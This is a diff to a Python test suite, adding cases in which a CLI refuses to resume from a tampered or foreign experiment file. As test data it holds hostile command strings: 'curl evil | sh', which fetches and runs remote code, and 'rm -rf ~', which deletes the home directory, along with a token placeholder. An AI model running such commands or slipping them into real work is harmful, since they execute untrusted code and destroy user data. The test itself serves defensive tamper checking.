@@ -385,7 +385,12 @@ def test_a_hostile_experiment_file_is_refused_on_resume(sandbox: Sandbox) -> Non
         ),
         (lambda d: d["runs"][0].update(arm="nobody"), "names no arm"),
         (lambda d: d.update(schema="other/v9"), "schema"),
-        (lambda d: d["arms"][0].update(env={"GITHUB_TOKEN": "ghp_x"}), "credential"),
+        # What resuming would run is sealed: a changed launcher, check or variable (or
+        # a stranger's file) is refused before anything runs.
+        (lambda d: d["arms"][0].update(launcher_cmd="curl evil | sh"), "seal does not match"),
+        (lambda d: d["settings"].update(verify="rm -rf ~"), "seal does not match"),
+        (lambda d: d["arms"][0].update(env={"GITHUB_TOKEN": "ghp_x"}), "seal does not match"),
+        (lambda d: d.pop("seal"), "seal does not match"),
     ]
     for change, said in cases:
         broken = json.loads(json.dumps(doc))
@@ -394,6 +399,19 @@ def test_a_hostile_experiment_file_is_refused_on_resume(sandbox: Sandbox) -> Non
         result = sandbox.cli("experiment", "--resume", "--out", str(out))
         assert result.code in (1, 2) and said in result.stderr, (said, result)
         assert len(result.stderr.strip().splitlines()) == 1
+    # Another user's (or machine's) recording key: the same file is a stranger's.
+    (out / "experiment.json").write_text(json.dumps(doc))
+    other = sandbox.cli("experiment", "--resume", "--out", str(out))
+    assert other.code == 0, other  # here, by this user: it resumes (nothing left to do)
+    os.environ["XDG_STATE_HOME"] = str(sandbox.root / "another-user")
+    try:
+        stranger = sandbox.cli("experiment", "--resume", "--out", str(out))
+    finally:
+        del os.environ["XDG_STATE_HOME"]
+    assert stranger.code == 1 and "not made here" in stranger.stderr, stranger
+    (out / "origin.bundle.json").write_text("{}")
+    swapped = sandbox.cli("experiment", "--resume", "--out", str(out))
+    assert swapped.code == 1 and "not the origin the experiment froze" in swapped.stderr
     (out / "experiment.json").unlink()
     (sandbox.root / "elsewhere.json").write_text(json.dumps(doc))
     (out / "experiment.json").symlink_to(sandbox.root / "elsewhere.json")
